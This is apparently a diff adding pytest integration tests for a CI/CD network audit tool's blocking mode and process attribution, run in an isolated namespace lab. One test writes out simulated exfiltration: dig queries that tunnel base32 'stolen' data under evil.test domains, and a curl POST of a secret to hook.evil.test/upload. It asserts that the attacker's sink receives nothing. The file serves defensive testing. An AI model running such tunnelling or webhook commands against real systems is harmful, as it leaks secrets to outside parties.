@@ -1,0 +1,200 @@
+"""Blocking mode and process attribution, live, in a lab of their own
+(tests/netns.py): the recorder's socket hooks sit on the lab's cgroup, TC on
+the client's veth; dnsmasq in the server namespace resolves *.example.test
+to the server, and a second server address (OTHER_V4/OTHER_V6) is reachable
+only by raw address.
+
+What blocking must do, each asserted on what the clients saw and on the logs:
+an allowed name connects on the first attempt; a raw address, an unlisted
+name and a tunnel through it get nothing through; each refusal is a
+notice.log row naming the process, and a conn.log row marked blocked.
+"""
+
+from __future__ import annotations
+
+import shlex
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from cicd_audit.zeeklog.reader import read_log
+from netns import CICD_AUDIT, DNS_NAME, HTTP_PORT, OTHER_V4, OTHER_V6, V4, V6
+
+pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]
+
+POLICY = "allowed:\n  domains: [www.example.test, \"*.cdn.example.test\"]\n"
+CURL = ["curl", "-s", "-o", "/dev/null", "--max-time", "5", "-w", "%{http_code} %{time_connect} %{time_total}"]
+DIG = ["dig", "+short", "+tries=1", "+time=1"]
+
+
+def rows(out: Path, path: str) -> list[dict]:
+    return list(read_log(out / f"{path}.log")[1])
+
+
+@pytest.fixture
+def policy(tmp_path) -> Path:
+    p = tmp_path / "policy.yml"
+    p.write_text(POLICY)
+    return p
+
+
+def record_block(lab, out: Path, policy: Path, script: str, *extra: str):
+    lab.start_dnsmasq()
+    lab.start_http()
+    return lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1], *extra)
+
+
+def test_allowed_name_connects_at_once_and_the_rest_is_refused(lab, tmp_path, policy):
+    out = tmp_path / "logs"
+    script = "; ".join([
+        f"echo allowed $({shlex.join(CURL)} http://{DNS_NAME}:{HTTP_PORT}/)",
+        f"echo allowed6 $({shlex.join(CURL)} -6 http://{DNS_NAME}:{HTTP_PORT}/)",
+        f"echo raw $({shlex.join(CURL)} http://{OTHER_V4}:{HTTP_PORT}/)",
+        f"echo raw6 $({shlex.join(CURL)} http://[{OTHER_V6}]:{HTTP_PORT}/)",
+        f"echo unlisted $({shlex.join(DIG)} evil.example.test; echo exit $?)",
+        f"echo tcpdns $({shlex.join(DIG)} +tcp www.example.test)",
+    ])
+    r = record_block(lab, out, policy, script)
+    assert r.returncode == 0, r.stderr
+    seen = dict(line.split(" ", 1) for line in r.stdout.strip().splitlines())
+    code, connect, _ = seen["allowed"].split()
+    assert code == "200"
+    assert float(connect) < 0.5, "the first connect to a just-resolved allowed name must not wait for a SYN retry"
+    assert seen["allowed6"].split()[0] == "200"
+    for raw in ("raw", "raw6"):
+        code, _, total = seen[raw].split()
+        assert code == "000" and float(total) < 0.5, f"{raw}: refused at connect(), not timed out: {seen[raw]}"
+    assert seen["unlisted"].endswith("no servers could be reached exit 9"), "an unlisted name must get no answer"
+    assert seen["tcpdns"].strip() == V4[1], "DNS over TCP for an allowed name works"
+
+    notices = rows(out, "notice")
+    by_note = {}
+    for n in notices:
+        by_note.setdefault(n["note"], []).append(n)
+    refused = {(n["id.resp_h"], n["id.resp_p"]) for n in by_note["CicdAudit::Blocked_Connection"]}
+    assert refused == {(OTHER_V4, HTTP_PORT), (OTHER_V6, HTTP_PORT)}
+    assert all(n["proc.name"] == "curl" and n["proc.pid"] for n in by_note["CicdAudit::Blocked_Connection"])
+    dns_notes = by_note["CicdAudit::Blocked_DNS_Query"]
+    assert {n["sub"] for n in dns_notes} == {"evil.example.test"}
+    assert all(n["proc.exe"] in (None, "/usr/bin/dig") for n in dns_notes)
+
+    conns = rows(out, "conn")
+    blocked = [c for c in conns if c["blocked"]]
+    assert {(c["id.resp_h"], c["id.resp_p"]) for c in blocked} >= {(OTHER_V4, HTTP_PORT), (OTHER_V6, HTTP_PORT)}
+    web = [c for c in conns if c["id.resp_p"] == HTTP_PORT and c["id.resp_h"] in (V4[1], V6[1])]
+    assert web and all(not c["blocked"] and c["conn_state"] == "SF" for c in web)
+    stats = rows(out, "capture_stats")[0]
+    assert stats["blocked_connects"] == 2
+    assert stats["blocked_dns"] >= 1
+    assert stats["addrs_learnt"] >= 2          # the A and the AAAA answer
+
+
+def test_tunnel_and_webhook_to_unlisted_destinations_move_no_data(lab, tmp_path, policy):
+    """An exfiltration attempt through DNS (queries under an unlisted domain, via the
+    allowed resolver and straight to the attacker's server) and over HTTP to a raw
+    address: the attacker's servers receive nothing."""
+    received = []
+    sink = lab.popen(lab.server_ns, [sys.executable, "-c", (
+        "import socket,sys\n"
+        f"s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('{OTHER_V4}',53))\n"
+        "s.settimeout(20)\n"
+        "try:\n"
+        "    while True:\n"
+        "        d,_=s.recvfrom(4096); print(len(d), flush=True)\n"
+        "except socket.timeout:\n"
+        "    pass\n")], stdout=subprocess.PIPE, text=True)
+    reader = threading.Thread(target=lambda: received.extend(sink.stdout), daemon=True)
+    reader.start()
+    secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
+    script = "; ".join([
+        *[f"dig +short +tries=1 +time=1 {secret}{i}.t.evil.test >/dev/null" for i in range(3)],
+        f"dig +short +tries=1 +time=1 @{OTHER_V4} {secret}.t.evil.test >/dev/null; echo direct $?",
+        f"curl -s -o /dev/null --max-time 3 --resolve hook.evil.test:{HTTP_PORT}:{OTHER_V4} "
+        f"-d secret={secret} http://hook.evil.test:{HTTP_PORT}/upload; echo webhook $?",
+    ])
+    r = record_block(lab, tmp_path / "logs", policy, script)
+    assert r.returncode == 0, r.stderr
+    assert "webhook 7" in r.stdout, r.stdout       # curl: could not connect
+    assert "direct 9" in r.stdout, r.stdout        # dig: no server reachable
+    sink.wait(30)
+    reader.join(5)
+    assert received == [], "the attacker's DNS server received tunnel data"
+    notes = rows(tmp_path / "logs", "notice")
+    tunnel = [n for n in notes if n["note"] == "CicdAudit::Blocked_DNS_Query"]
+    assert sorted(n["sub"] for n in tunnel) == [f"{secret.lower()}{i}.t.evil.test" for i in range(3)]
+    assert any(n["id.resp_h"] == OTHER_V4 and n["id.resp_p"] == 53 for n in notes)
+    assert any(n["id.resp_h"] == OTHER_V4 and n["id.resp_p"] == HTTP_PORT and n["proc.name"] == "curl"
+               for n in notes)
+
+
+def test_connections_name_their_process(lab, tmp_path):
+    """Without blocking: TCP from curl, and UDP sent unconnected from Python, carry
+    their process; the executable is read while the process runs."""
+    lab.start_dnsmasq()
+    lab.start_http()
+    script = (f"curl -s -o /dev/null http://{V4[1]}:{HTTP_PORT}/ & echo curl $!; wait; "
+              f"exec {sys.executable} -c \"import socket,os,time; print('py', os.getpid(), flush=True); "
+              f"s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b'x'*9, ('{V4[1]}', 9999)); "
+              f"time.sleep(0.2)\"")
+    out = tmp_path / "logs"
+    r = lab.record(out, ["sh", "-c", script])
+    assert r.returncode == 0, r.stderr
+    pids = {k: int(v) for k, v in (line.split() for line in r.stdout.split("\n") if line.strip())}
+    conns = rows(out, "conn")
+    web = next(c for c in conns if c["id.resp_p"] == HTTP_PORT)
+    assert (web["proc.pid"], web["proc.name"], web["proc.exe"]) == (pids["curl"], "curl", "/usr/bin/curl")
+    assert web["proc.cgroup"] == "/" + lab.cgroup.name
+    assert web["proc.cmdline"] is None, "command lines are kept only with --process-args"
+    udp = next(c for c in conns if c["id.resp_p"] == 9999)
+    assert udp["proc.pid"] == pids["py"]
+    assert udp["proc.exe"] == str(Path(sys.executable).resolve())
+
+
+def test_nothing_stays_attached_after_exit_or_kill(lab, tmp_path, policy):
+    lab.start_dnsmasq()
+    lab.start_http()
+    raw = [*CURL, f"http://{OTHER_V4}:{HTTP_PORT}/"]
+    assert lab.record(tmp_path / "a", ["true"], "--block", "--policy", str(policy), "--resolver", V4[1]).returncode == 0
+    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200"
+    proc = lab.popen(lab.client_ns, lab.record_argv(tmp_path / "b", None, "--block", "--policy", str(policy),
+                                                    "--resolver", V4[1]),
+                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    _wait_blocking(lab, raw)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait(10)
+    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200", "a killed recorder kept blocking"
+    assert lab.tc_filters() == ""
+
+
+def test_fail_closed_outlives_a_kill_until_cleanup(lab, tmp_path, policy):
+    lab.start_dnsmasq()
+    lab.start_http()
+    raw = [*CURL, f"http://{OTHER_V4}:{HTTP_PORT}/"]
+    proc = lab.popen(lab.client_ns, lab.record_argv(tmp_path, None, "--block", "--policy", str(policy),
+                                                    "--resolver", V4[1], "--fail-closed"),
+                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    try:
+        _wait_blocking(lab, raw)
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(10)
+        assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "000", "--fail-closed let go"
+    finally:
+        c = lab.run(lab.client_ns, [CICD_AUDIT, "cleanup"])
+    assert c.returncode == 0, c.stderr
+    assert lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "200"
+    assert lab.tc_filters() == ""
+
+
+def _wait_blocking(lab, raw: list[str], timeout: float = 30) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if lab.run(lab.client_ns, lab.in_cgroup(raw)).stdout.split()[0] == "000":
+            return
+        time.sleep(0.2)
+    raise AssertionError("blocking never became active")
